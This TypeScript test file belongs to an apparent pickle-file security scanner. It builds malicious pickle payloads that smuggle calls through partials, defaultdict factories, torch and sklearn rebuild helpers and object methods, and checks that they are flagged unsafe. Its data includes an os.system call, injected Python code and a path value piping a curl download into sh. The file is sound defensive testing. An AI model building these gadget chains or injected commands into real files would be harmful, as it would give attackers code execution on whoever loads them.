import { bytes, call, proto, run, sglob, str } from '../testing';
import { atLeast } from '../report';

// Reviewed callables that are given what no software writes: a function that they would call, an object whose methods they
// would use, text where there is none. Each of these ran `somepkg.fire` when Python 3.11 loaded it.

type Part = Uint8Array;
const dict = (...items: Part[]): Part => bytes('}(', ...items, 'u');
const list = (...items: Part[]): Part => bytes('](', ...items, 'e');
const tuple = (...items: Part[]): Part => bytes('(', ...items, 't');
const build = (object: Part, state: Part): Part => bytes(object, state, 'b');
const made = (type: Part, ...args: Part[]): Part => bytes(type, tuple(...args), 0x81);
const none = bytes('N');
const one = bytes('K\x01');
const fire = sglob('somepkg', 'fire');

const g = (path: string): Part => {
  const dot = path.lastIndexOf('.');
  return sglob(path.slice(0, dot), path.slice(dot + 1));
};
const holder = (...names: string[]): Part =>
  build(made(g('types.SimpleNamespace')), dict(...names.flatMap(name => [str(name), fire])));
/** `partial(func, *args, **keywords)`, as pickle writes it. */
const partial = (func: Part, args: Part[] = [], keywords = dict()): Part =>
  build(made(g('functools.partial'), func), tuple(func, tuple(...args), keywords, none));
const key = dict(str('key'), fire);
const factory = call(g('collections.defaultdict'), fire);
const attributes = (path: string, ...names: string[]): Part =>
  build(made(g(path)), dict(...names.flatMap(name => [str(name), fire])));

describe('somebody else makes the call', () => {
  test.each([
    ['sorted, by the state of a partial', call(partial(g('builtins.sorted'), [list(one, one)], key))],
    ['max, by NEWOBJ_EX', call(bytes(g('functools.partial'), tuple(g('builtins.max'), list(one)), key, 0x92))],
    ['min, by a partial of a partial', call(partial(partial(g('builtins.min'), [list(one)]), [], key))],
    ['bisect', call(partial(g('bisect.bisect'), [list(one), one], key))],
    ['heapq.nlargest', call(partial(g('heapq.nlargest'), [one, list(one)], key))],
    ['the factory of a defaultdict, by an item', call(call(g('operator.itemgetter'), str('k')), factory)],
    ['the same through a function', call(g('operator.getitem'), factory, str('k'))],
    ['itertools.accumulate', call(g('itertools.accumulate'), list(one), fire)],
    ['itertools.starmap', call(g('itertools.starmap'), fire, list(tuple(one)))],
    ['itertools.takewhile', call(g('itertools.takewhile'), fire, list(one))],
    ['map', call(g('builtins.map'), fire, list(one))],
    ['filter', call(g('builtins.filter'), fire, list(one))],
    ['functools.reduce', call(g('functools.reduce'), fire, list(one, one))],
    ['iter with an end', call(g('builtins.list'), call(g('builtins.iter'), fire, one))],
    ['numpy.vectorize', call(call(g('numpy.vectorize'), fire), one)],
    ['the maker of a random generator', call(g('numpy.random._pickle.__generator_ctor'), str('x'), fire)],
    ['and of an old one', call(g('numpy.random._pickle.__randomstate_ctor'), str('MT19937'), fire)],
    [
      'a tensor of a subclass',
      call(g('torch._tensor._rebuild_from_type_v2'), fire, g('torch.Tensor'), tuple(one), dict())
    ],
    [
      'a class with effects as a key',
      call(partial(g('builtins.sorted'), [list(str('/tmp/x'))], dict(str('key'), g('numpy.memmap'))))
    ],
    ['a weak reference', call(g('weakref.ref'), call(g('collections.OrderedDict')), fire)],
    [
      'a regular expression',
      call(call(g('builtins.getattr'), call(g('re._compile'), str('a'), one), str('sub')), fire, str('a'))
    ],
    ['an index of pandas', call(g('pandas.Index'), call(g('builtins.map'), fire, list(one)))],
    ['a series of pandas', call(g('pandas.Series'), partial(fire))]
  ])('%s', (_what, load) => {
    expect(run(proto(4, load)).verdict).toBe('unsafe');
  });
});

describe('a method that the file brings is called', () => {
  const parameter = (object: Part): Part => call(g('torch._utils._rebuild_parameter'), object, bytes(0x88), none);
  const optimizer = (...state: Part[]): Part => build(made(g('torch.optim.sgd.SGD')), dict(...state));
  const groups = [str('param_groups'), list()];

  test.each([
    ['detach of a namespace', parameter(holder('detach'))],
    ['detach of an estimator', parameter(attributes('sklearn.svm._classes.SVC', 'detach'))],
    ['detach of an object of an unknown class', parameter(attributes('somepkg.Plain', 'detach'))],
    ['to', call(g('torch._utils._rebuild_device_tensor_from_cpu_tensor'), holder('to'), none, str('cpu'), one)],
    ['setdefault of an optimiser’s defaults', optimizer(str('defaults'), holder('setdefault'), ...groups)],
    ['setdefault of a group', optimizer(str('defaults'), dict(), str('param_groups'), list(holder('setdefault')))],
    ['a method of the optimiser', optimizer(str('_patch_step_function'), fire, str('defaults'), dict(), ...groups)],
    ['a method of a step function', attributes('sklearn.isotonic.IsotonicRegression', '_build_f')],
    ['a method of a distribution', attributes('scipy.stats.rv_continuous', '_attach_methods')],
    [
      'the same behind a tensor',
      call(
        g('torch._tensor._rebuild_from_type_v2'),
        g('copyreg.__newobj__'),
        g('scipy.stats.rv_continuous'),
        tuple(g('scipy.stats.rv_continuous')),
        dict(str('_attach_methods'), fire)
      )
    ],
    ['keys, for a UserDict', call(g('collections.UserDict'), holder('keys'))],
    ['keys, for an OrderedDict', call(g('collections.OrderedDict'), holder('keys'))],
    ['items, for a Counter', call(g('collections.Counter'), holder('items'))],
    ['keys, for a dict', call(g('builtins.dict'), holder('keys'))],
    [
      'keys, behind a ChainMap',
      call(g('builtins.list'), build(made(g('collections.ChainMap')), dict(str('maps'), list(holder('keys')))))
    ],
    ['get, by a method caller', call(call(g('operator.methodcaller'), str('get')), holder('get'))],
    ['append, by the opcode', bytes(holder('append'), one, 'a')],
    ['extend, by the opcode', bytes(attributes('sklearn.svm._classes.SVC', 'extend'), '(', one, 'e')],
    ['extend, of an unknown class', bytes(attributes('somepkg.Plain', 'extend'), '(', one, 'e')],
    [
      'append of the list of a UserList',
      bytes(build(made(g('collections.UserList')), dict(str('data'), holder('append'))), one, 'a')
    ]
  ])('%s', (_what, load) => {
    expect(run(proto(4, load)).verdict).toBe('unsafe');
  });
});

describe('text where no model has any', () => {
  const code = str("__import__('os').getpid()");

  test.each([
    ['OrderedDict', call(g('collections.OrderedDict'), code)],
    ['set', call(g('builtins.set'), code)],
    ['a tensor', call(g('torch._utils._rebuild_tensor_v2'), code)],
    ['a type of NumPy', call(g('numpy.dtype'), code)],
    ['a scalar', call(g('numpy.core.multiarray.scalar'), code, code)],
    ['a path', call(g('pathlib.PosixPath'), str('$(curl http://example.org/a | sh)'))],
    ['a device', call(g('torch.device'), code)],
    ['a number', call(g('decimal.Decimal'), code)],
    ['no callable at all', bytes(str('os.system'), tuple(str('id')), 'R')]
  ])('%s', (_what, load) => {
    expect(run(proto(4, load)).findings.filter(({ severity }) => atLeast(severity, 'MEDIUM'))).not.toEqual([]);
  });
});

test('the words say that a model would never supply it', () => {
  const [finding] = run(proto(4, call(g('collections.OrderedDict'), str('x')))).findings;
  expect(finding).toMatchObject({ rule: 'pickle-argument-mismatch', severity: 'HIGH', operator: 'OrderedDict' });
});

describe('a state with bytes and the name of a file', () => {
  const state = (place: string, data = bytes('C\x01x')): Part =>
    build(made(g('somepkg.Resource')), dict(str('prefix'), str(place), str('data'), data));
  const worst = (load: Part): boolean =>
    run(proto(4, load)).findings.some(({ severity }) => atLeast(severity, 'MEDIUM'));

  test.each(['/tmp/x', '~/x', '../x', 'C:\\x', 'run.sh', 'site.pth'])('%s', place => {
    expect(worst(state(place))).toBe(true);
  });

  test('but a name alone, or a path without bytes, is a setting', () => {
    expect(worst(state('model'))).toBe(false);
    expect(worst(state('/data/imagenet', one))).toBe(false);
  });
});

describe('honest arguments, of old and new versions', () => {
  const clean = (load: Part, protocol: 2 | 4 = 4): void => {
    expect(run(proto(protocol, load)).findings.filter(({ severity }) => atLeast(severity, 'MEDIUM'))).toEqual([]);
  };
  const bytes2 = (text: string): Part => call(g('_codecs.encode'), str(text), str('latin1'));
  const dtype = call(g('numpy.dtype'), str('f8'), one, one);

  test.each([
    [
      'an OrderedDict of Python 2',
      call(g('collections.OrderedDict'), list(list(str('relu'), g('torch.nn.functional.relu'))))
    ],
    ['a Counter', call(g('collections.Counter'), dict(str('a'), one))],
    ['a deque of functions', call(g('collections.deque'), list(g('builtins.len')), one)],
    [
      'a defaultdict of defaultdicts',
      call(g('collections.defaultdict'), partial(g('collections.defaultdict'), [g('builtins.int')]))
    ],
    ['a defaultdict of a class of one’s own', call(g('collections.defaultdict'), g('mylib.Thing'))],
    ['an array', call(g('numpy.core.multiarray._reconstruct'), g('numpy.ndarray'), tuple(bytes('K\x00')), bytes2('b'))],
    [
      'an array of Python 2',
      call(g('numpy.core.multiarray._reconstruct'), g('numpy.ndarray'), tuple(bytes('K\x00')), str('b'))
    ],
    [
      'an array of another package',
      call(g('numpy.core.multiarray._reconstruct'), g('astropy.units.quantity.Quantity'), tuple(one), str('b'))
    ],
    ['a scalar', call(g('numpy.core.multiarray.scalar'), dtype, bytes2('12345678'))],
    ['a generator by name', call(g('numpy.random._pickle.__generator_ctor'), str('PCG64'))],
    [
      'a generator with its maker',
      call(g('numpy.random._pickle.__randomstate_ctor'), str('MT19937'), g('numpy.random._pickle.__bit_generator_ctor'))
    ],
    ['a date of Python 2', call(g('datetime.datetime'), str('\x07x\x01\x01\x00\x00\x00\x00\x00\x00'))],
    [
      'a date with a zone',
      call(g('datetime.datetime'), bytes2('\x07x\x01\x01\x00\x00\x00\x00\x00\x00'), call(g('pytz._UTC')))
    ],
    [
      'a namespace that keeps a function',
      build(made(g('argparse.Namespace')), dict(str('activation'), g('builtins.len')))
    ],
    [
      'a function under an ordinary name',
      build(
        made(g('sklearn.preprocessing._function_transformer.FunctionTransformer')),
        dict(str('func'), partial(g('numpy.log1p')))
      )
    ],
    ['sorting by length', call(partial(g('builtins.sorted'), [list(str('a'))], dict(str('key'), g('builtins.len'))))],
    [
      'settings of quantization',
      made(
        g('torch.ao.quantization.qconfig.QConfig'),
        partial(g('torch.ao.quantization.observer.MinMaxObserver')),
        fire
      )
    ],
    [
      'an index with a foreign column',
      call(g('pandas.core.indexes.base._new_Index'), g('pandas.Index'), dict(str('data'), made(g('mylib.Column'))))
    ]
  ])('%s', (_what, load) => clean(load));
});
